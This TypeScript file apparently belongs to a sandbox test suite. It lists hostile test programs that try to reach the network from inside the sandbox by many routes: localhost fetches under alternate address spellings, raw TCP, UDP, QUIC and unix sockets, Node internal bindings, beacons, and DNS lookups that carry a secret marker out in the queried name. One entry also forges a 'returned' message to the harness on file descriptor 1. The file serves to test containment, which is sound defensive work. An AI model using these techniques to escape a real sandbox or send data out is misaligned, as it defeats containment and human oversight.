import type { HostileProgram } from "./hostile-program.ts";
import { attackOn } from "./typescript-attack.ts";

const reach = attackOn("network");
const bare = { reachesBare: true } as const;

/** Attacks that want a packet, a name or a socket out of the process. */
export const typescriptNetworkPrograms: readonly HostileProgram[] = [
  reach(
    "fetch",
    "fetches a page of this machine",
    'return (await fetch("http://127.0.0.1:" + world.tcpPort + "/" + world.marker)).status;',
    bare,
  ),
  reach(
    "fetch-spellings",
    "fetches by other names of this machine",
    `  const hosts = ["localhost", "0.0.0.0", "[::1]", "2130706433", "0x7f.1", "127.1", "[::ffff:127.0.0.1]"];
  return await tryAll(hosts.map((host) => async () => (await fetch("http://" + host + ":" + world.tcpPort, { signal: AbortSignal.timeout(500) })).status));`,
    bare,
  ),
  reach(
    "fetch-client",
    "fetches with a client, a proxy and a unix socket of its own",
    `  const url = "http://127.0.0.1:" + world.tcpPort;
  const proxies = [{ url }, { transport: "unix", path: world.unixSocketPath }, { transport: "tcp", hostname: "127.0.0.1", port: world.tcpPort }];
  return await tryAll(proxies.map((proxy) => async () => (await fetch("http://example.invalid/", { client: Deno.createHttpClient({ proxy }), signal: AbortSignal.timeout(500) })).status));`,
    bare,
  ),
  reach(
    "tcp-connect",
    "opens a TCP connection",
    'return (await Deno.connect({ hostname: "127.0.0.1", port: world.tcpPort })).remoteAddr;',
    bare,
  ),
  reach(
    "tls-connect",
    "opens a TLS connection, or upgrades one",
    `  return await tryAll([
    () => Deno.connectTls({ hostname: "127.0.0.1", port: world.tcpPort }),
    async () => Deno.startTls(await Deno.connect({ hostname: "127.0.0.1", port: world.tcpPort })),
    async () => (await import("node:tls")).connect(world.tcpPort, "127.0.0.1").on("error", () => {}) && undefined,
    () => new Promise((resolve) => setTimeout(resolve, 200)),
  ]);`,
    bare,
  ),
  reach(
    "unix-connect",
    "connects to a unix socket",
    'return (await Deno.connect({ transport: "unix", path: world.unixSocketPath })).localAddr;',
    bare,
  ),
  reach(
    "unix-abstract",
    "connects to a unix socket that has no path",
    `  const name = "\\0" + world.abstractSocketName;
  return await tryAll([
    () => Deno.connect({ transport: "unix", path: name }),
    async () => { const net = await import("node:net"); await new Promise((resolve, reject) => net.connect({ path: name }).on("connect", resolve).on("error", reject)); },
  ]);`,
  ),
  reach(
    "udp-send",
    "sends a datagram",
    `  const socket = Deno.listenDatagram({ port: 0, transport: "udp" });
  return await socket.send(new TextEncoder().encode(world.marker), { transport: "udp", hostname: "127.0.0.1", port: world.udpPort });`,
  ),
  reach(
    "quic",
    "opens a QUIC endpoint and a tunnel",
    `  return await tryAll([
    () => new Deno.QuicEndpoint({ hostname: "127.0.0.1", port: 0 }).listen({}),
    () => Deno.connectQuic({ hostname: "127.0.0.1", port: world.udpPort, alpnProtocols: ["x"] }),
    () => new WebTransport("https://127.0.0.1:" + world.udpPort).ready,
  ]);`,
  ),
  reach(
    "vsock",
    "connects to the machine beneath",
    'return await Deno.connect({ transport: "vsock", cid: 2, port: 1024 });',
  ),
  reach(
    "graphics-card",
    "reaches the graphics card and what its driver keeps on the disk",
    "return String(await navigator.gpu.requestAdapter());",
  ),
  reach(
    "tcp-listen",
    "listens on a port",
    "return Deno.listen({ port: world.listenPort }).addr.port;",
    bare,
  ),
  reach(
    "serve",
    "serves pages and unix sockets to whoever asks",
    `  return await tryAll([
    () => Deno.serve({ port: world.listenPort, onListen: () => {} }, () => new Response("x")).addr.port,
    () => Deno.serve({ path: world.writeFolder + "/serve.sock" }, () => new Response("x")).addr.path,
    () => Deno.listen({ transport: "unix", path: world.writeFolder + "/listen.sock" }).addr.path,
    async () => (await import("node:http")).createServer().listen(world.listenPort).on("error", () => {}) && undefined,
    async () => (await import("node:net")).createServer().listen(world.writeFolder + "/net.sock").on("error", () => {}) && undefined,
  ]);`,
  ),
  reach(
    "resolve-name",
    "carries a secret out in a name that is looked up",
    `  return await tryAll([
    () => Deno.resolveDns(world.marker + ".example.org", "A", { signal: AbortSignal.timeout(500), nameServer: { ipAddr: "127.0.0.1", port: world.dnsPort } }),
    async () => { const dns = await import("node:dns/promises"); const r = new dns.Resolver({ timeout: 200, tries: 1 }); r.setServers(["127.0.0.1:" + world.dnsPort]); return await r.resolve4(world.marker + ".example.org"); },
    async () => (await import("node:dns/promises")).lookup("localhost"),
  ]);`,
    bare,
  ),
  reach(
    "node-net",
    "connects by Node's net module",
    `  const net = await import("node:net");
  return await new Promise((resolve, reject) => net.connect(world.tcpPort, "127.0.0.1").on("connect", () => resolve(1)).on("error", reject));`,
    bare,
  ),
  reach(
    "node-dgram",
    "sends a datagram by Node's dgram module",
    `  const { createSocket } = await import("node:dgram");
  return await new Promise((resolve, reject) => createSocket("udp4").on("error", reject).send(world.marker, world.udpPort, "127.0.0.1", (error) => (error ? reject(error) : resolve(1))));`,
    bare,
  ),
  reach(
    "node-http",
    "asks by Node's http, https and http2 modules",
    `  const ask = (module, url) => async () => { const m = await import(module); return await new Promise((resolve, reject) => m.get(url, resolve).on("error", reject)).then((answer) => answer.statusCode); };
  return await tryAll([
    ask("node:http", "http://127.0.0.1:" + world.tcpPort),
    ask("node:https", "https://127.0.0.1:" + world.tcpPort),
    async () => { const h = await import("node:http2"); await new Promise((resolve) => h.connect("http://127.0.0.1:" + world.tcpPort).on("error", resolve).on("connect", resolve)); },
  ]);`,
    bare,
  ),
  reach(
    "node-agent-socket",
    "connects a socket of Node's inner binding",
    `  return await tryAll([
    () => process.binding("tcp_wrap"), () => process._linkedBinding("tcp_wrap"),
    async () => (await import("node:process")).binding("tcp_wrap"),
    async () => new (await import("node:net")).Socket({ fd: 3 }).write(world.marker),
    async () => new (await import("node:net")).Socket({ fd: 1 }).write('{"type":"returned","id":"x","value":1}\\n'),
  ]);`,
  ),
  reach(
    "web-socket",
    "opens a web socket and an event stream",
    `  const wait = (source) => new Promise((resolve) => { source.onopen = resolve; source.onerror = (event) => resolve(String(event.message)); });
  return await tryAll([
    () => wait(new WebSocket("ws://127.0.0.1:" + world.tcpPort)),
    () => wait(new EventSource("http://127.0.0.1:" + world.tcpPort)),
    () => new WebSocketStream("ws://127.0.0.1:" + world.tcpPort).opened,
  ]);`,
    bare,
  ),
  reach(
    "beacon",
    "asks by roads that are forgotten: beacons, images, telemetry",
    `  const url = "http://127.0.0.1:" + world.tcpPort;
  return await tryAll([
    () => navigator.sendBeacon(url, world.marker), () => { const x = new XMLHttpRequest(); x.open("GET", url, false); x.send(); },
    () => { new Image().src = url; }, 
    () => Deno.telemetry.tracerProvider.getTracer("x").startSpan("x").end(), () => Deno.upgradeWebSocket(new Request(url)),
  ]);`,
  ),
];
